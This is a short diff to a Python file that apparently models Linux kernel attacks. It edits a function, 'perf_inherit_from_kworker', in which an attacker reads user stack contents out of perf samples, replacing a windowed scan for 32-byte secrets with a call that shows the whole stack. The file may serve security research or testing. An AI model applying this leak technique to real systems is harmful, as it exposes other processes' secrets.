@@ -30,7 +30,6 @@ IOPRIO_WHO_PROCESS = 1
 IOPRIO_IDLE = 3 << 13
 PR_SCHED_CORE, PR_SCHED_CORE_CREATE = 62, 1
 MS_BIND = 4096
-SECRET_SIZE, ALIGNMENT = 32, 8
 LOOKS = 5
 
 SCHED_DEADLINE = 6
@@ -158,8 +157,7 @@ def perf_inherit_from_kworker(attacker: Attacker, handler: Handler) -> None:
     if not stacks:
         raise NoTarget("its samples carry no user stack")
     for stack in stacks:
-        for at in range(0, len(stack) - SECRET_SIZE + 1, ALIGNMENT):
-            attacker.show(stack[at : at + SECRET_SIZE])
+        attacker.show_all(stack)
 
 
 @_inherits(
